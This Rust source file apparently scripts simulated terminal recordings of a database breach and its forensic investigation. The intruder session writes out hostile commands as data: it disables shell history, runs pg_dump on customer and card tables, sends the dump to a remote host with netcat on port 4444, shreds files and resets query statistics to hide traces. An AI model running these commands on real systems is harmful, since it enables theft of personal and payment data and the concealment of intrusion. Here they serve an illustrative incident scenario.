//! The incident's two sessions: the visit, and the investigation on the morning after.

use super::database::table;
use super::{greet, leave};
use crate::recording::script::ScriptContext;
use crate::recording::terminal::Terminal;

pub(in crate::recording) fn visit(terminal: &mut Terminal, context: &ScriptContext) {
    greet(terminal, context);
    terminal.enter("unset HISTFILE; id; hostname");
    terminal.lines(0, &["uid=114(postgres) gid=121(postgres) groups=121(postgres)", &context.host]);
    terminal.show(&context.prompt());
    terminal.enter("psql -l | head -7");
    terminal.wait(350);
    let rows = [("ledger", "41 GB"), ("shop", "212 GB"), ("postgres", "8 MB")];
    let rows: Vec<Vec<String>> = rows
        .into_iter()
        .map(|(name, size)| vec![name.to_owned(), "postgres".to_owned(), size.to_owned()])
        .collect();
    table(terminal, &["Name", "Owner", "Size"], &rows);
    terminal.show(&context.prompt());
    terminal.enter("psql shop -c \"select count(*) from customers\"");
    terminal.wait(1900);
    table(terminal, &["count"], &[vec!["1284113".to_owned()]]);
    terminal.show(&context.prompt());
    terminal.enter("mkdir -p /var/tmp/.cache && cd /var/tmp/.cache");
    let prompt = context.prompt().replace('~', "/var/tmp/.cache");
    terminal.show(&prompt);
    terminal.enter("pg_dump -t customers -t cards shop | gzip -1 > c.gz &");
    terminal.lines(0, &["[1] 48213"]);
    terminal.show(&prompt);
    for size in ["604M", "1.7G", "2.9G", "3.8G"] {
        terminal.enter("ls -lh c.gz");
        terminal.lines(
            0,
            &[&format!(
                "-rw-r--r-- 1 postgres postgres {size} {} {} c.gz",
                context.date,
                &context.time(terminal.millis())[..5]
            )],
        );
        terminal.show(&prompt);
        terminal.wait(34_000);
    }
    terminal
        .lines(0, &["", "[1]+  Done                    pg_dump -t customers -t cards shop | gzip -1 > c.gz"]);
    terminal.show(&prompt);
    terminal.wait_until(322_000);
    terminal.enter(&format!("nc -N {} 4444 < c.gz", context.from));
    terminal.wait_until(1_146_000);
    terminal.show(&prompt);
    terminal.enter("shred -u c.gz; cd; rm -rf /var/tmp/.cache");
    terminal.wait(9000);
    terminal.show(&context.prompt());
    terminal.enter("psql shop -c \"select pg_stat_statements_reset()\"");
    terminal.wait(300);
    table(terminal, &["pg_stat_statements_reset"], &[vec![String::new()]]);
    terminal.show(&context.prompt());
    leave(terminal);
}

pub(in crate::recording) fn aftermath(terminal: &mut Terminal, context: &ScriptContext) {
    greet(terminal, context);
    terminal.enter("last -a | head -4");
    terminal.lines(
        0,
        &[
            &format!(
                "{:<9} pts/0        {} {}   still logged in",
                context.account,
                context.date,
                context.time(0)
            ),
            "postgres  pts/1        03:27 - 03:46  (00:19)     debian-x1",
            "deploy    pts/0        16:02 - 16:09  (00:07)     mira-mbp",
        ],
    );
    terminal.show(&context.prompt());
    terminal.enter("sudo ls -la /var/tmp ~postgres/.bash_history");
    terminal.lines(
        0,
        &[
            "ls: cannot access '/var/tmp/.cache': No such file or directory",
            "-rw------- 1 postgres postgres 0 /var/lib/postgresql/.bash_history",
        ],
    );
    terminal.show(&context.prompt());
    terminal.enter("sudo journalctl --since 03:00 --until 04:10 -u postgresql -o cat | tail -3");
    terminal.wait(500);
    terminal.lines(
        40,
        &[
            "LOG:  duration: 128440.118 ms  statement: COPY public.customers (id, name, email, …) TO stdout;",
            "LOG:  duration: 71207.004 ms  statement: COPY public.cards (customer, token, last4, …) TO stdout;",
            "LOG:  statement: select pg_stat_statements_reset()",
        ],
    );
    terminal.show(&context.prompt());
    leave(terminal);
}
